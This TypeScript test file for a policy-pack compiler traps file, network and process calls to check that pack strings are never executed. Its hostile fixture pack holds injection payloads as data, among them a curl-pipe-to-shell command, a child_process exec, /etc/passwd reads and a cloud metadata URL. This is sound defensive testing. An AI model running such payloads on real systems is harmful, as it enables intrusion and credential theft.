/**
 * Packs are data. Compiling and evaluating a pack — the built-in ones and hostile ones whose
 * strings look like JavaScript, templates, paths or URLs — makes no network connection, starts no
 * process and reads no file outside plangate's own schemas; nothing in the compiler or the engine
 * evaluates text as code.
 */
import child from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import https from "node:https";
import { syncBuiltinESMExports } from "node:module";
import net from "node:net";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, describe, expect, it } from "vitest";
import { compilePack } from "../../src/policy/compile.js";
import { loadSchemaIndex } from "../../src/policy/provider-schema/index.js";
import { parsePackText } from "../../src/policy/source.js";
import { builtinPackFiles, FIXTURES, gate, modelFromBytes, POLICIES } from "./pipeline.js";

const PACKAGE = fileURLToPath(new URL("../../", import.meta.url));

type Patchable = Record<string, unknown>;
const TRAPS: [Patchable, string[]][] = [
  [
    fs as unknown as Patchable,
    [
      "readFileSync",
      "openSync",
      "readdirSync",
      "statSync",
      "lstatSync",
      "existsSync",
      "writeFileSync",
      "realpathSync",
      "readFile",
      "open",
    ],
  ],
  [fs.promises as unknown as Patchable, ["readFile", "open", "readdir", "stat", "writeFile"]],
  [net as unknown as Patchable, ["connect", "createConnection", "Socket"]],
  [http as unknown as Patchable, ["request", "get"]],
  [https as unknown as Patchable, ["request", "get"]],
  [
    child as unknown as Patchable,
    ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"],
  ],
  [globalThis as unknown as Patchable, ["fetch"]],
];

interface Access {
  readonly what: string;
  readonly arg: string;
}
let restore: (() => void) | undefined;
afterEach(() => restore?.());

/** Record every call to the trapped functions (the calls still go through). */
function trap(): Access[] {
  const log: Access[] = [];
  const saved: [Patchable, string, unknown][] = [];
  for (const [obj, names] of TRAPS) {
    for (const name of names) {
      const original = obj[name];
      if (typeof original !== "function") continue;
      saved.push([obj, name, original]);
      obj[name] = function (this: unknown, ...args: unknown[]) {
        log.push({ what: name, arg: String(args[0]) });
        return (original as (...a: unknown[]) => unknown).apply(this, args);
      };
    }
  }
  syncBuiltinESMExports();
  restore = () => {
    for (const [obj, name, original] of saved) obj[name] = original;
    syncBuiltinESMExports();
    restore = undefined;
  };
  return log;
}

const HOSTILE_PACK = `
apiVersion: plangate/v1
kind: PolicyPack
metadata:
  name: hostile
  version: 1.0.0
  description: "\${process.exit(1)} {{constructor.constructor('return process')()}} <%= File.read('/etc/passwd') %>"
  homepage: "http://169.254.169.254/latest/meta-data/"
parameters:
  p: { type: string, default: "'; process.exit(1); '" }
rules:
  - id: js-strings
    title: "\`\${require('fs').readFileSync('/etc/passwd')}\`"
    description: "import('file:///etc/passwd') fetch('http://example.com') require('child_process').execSync('touch /tmp/pwned')"
    message: "{{address}} \${globalThis.process.exit()} {{constructor}}"
    severity: low
    enforcement: advisory
    controls: ["AWS-S3.1"]
    docs: { url: "file:///etc/passwd" }
    fix: { hint: "$(curl http://example.com | sh)" }
    resource: aws_s3_bucket
    where: { attribute: "tags[\\"\${param.p}\\"]", absent: true }
    require:
      any:
        - { attribute: bucket, equals: "/etc/passwd" }
        - { attribute: bucket, matches: "^(?:https?|file)://" }
        - { attribute: "tags[\\"__proto__\\"]", in: ["process.exit()", "\${7*7}", "{{7*7}}"] }
        - { attribute: bucket, equals: { $param: p } }
`;

describe("compiling and evaluating packs touches nothing outside", () => {
  it("the built-in packs and a hostile one, over the secrets fixture", () => {
    const plan = fs.readFileSync(path.join(FIXTURES, "secrets", "plan.json"));
    const texts = [
      ...builtinPackFiles().map((f) => [f, fs.readFileSync(POLICIES + f, "utf8")] as const),
      ["hostile.yaml", HOSTILE_PACK] as const,
    ];
    const schemaIndex = loadSchemaIndex();
    const log = trap();
    const packs = texts.map(([file, text]) => {
      const { pack, diagnostics } = compilePack(parsePackText(text, file, "yaml"), { schemaIndex });
      expect(pack, `${file}: ${diagnostics.map((d) => d.message).join("; ")}`).toBeDefined();
      return pack as NonNullable<typeof pack>;
    });
    const { outputs } = gate(modelFromBytes(plan), packs);
    restore?.();
    // The trap works: the type check read plangate's own AWS schemas through it.
    expect(log.some((a) => a.arg.includes(`${path.sep}aws`))).toBe(true);
    // Only plangate's own provider schemas may be read (lazily, by the type check).
    const outside = log.filter(
      (a) =>
        !(
          a.what.startsWith("read") ||
          a.what.includes("stat") ||
          a.what === "existsSync" ||
          a.what.startsWith("open") ||
          a.what === "realpathSync"
        ) || !path.resolve(a.arg).startsWith(PACKAGE),
    );
    expect(outside).toEqual([]);
    expect(fs.existsSync("/tmp/pwned")).toBe(false);
    // The strings are printed as data, never evaluated.
    expect(outputs.json).toContain("js-strings");
    expect(outputs.text).not.toContain("[native code]");
  });
});

describe("no code from text", () => {
  it("nothing in src/ calls eval or the Function constructor", () => {
    const src = fileURLToPath(new URL("../../src/", import.meta.url));
    const offenders: string[] = [];
    for (const e of fs.readdirSync(src, { recursive: true, withFileTypes: true })) {
      if (!e.isFile() || !/\.(ts|js)$/.test(e.name)) continue;
      const file = path.join(e.parentPath, e.name);
      const text = fs.readFileSync(file, "utf8");
      if (
        /\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(\s*["'`]|vm\.run|runInNewContext|runInThisContext/.test(
          text,
        )
      ) {
        offenders.push(path.relative(src, file));
      }
    }
    expect(offenders).toEqual([]);
  });
});
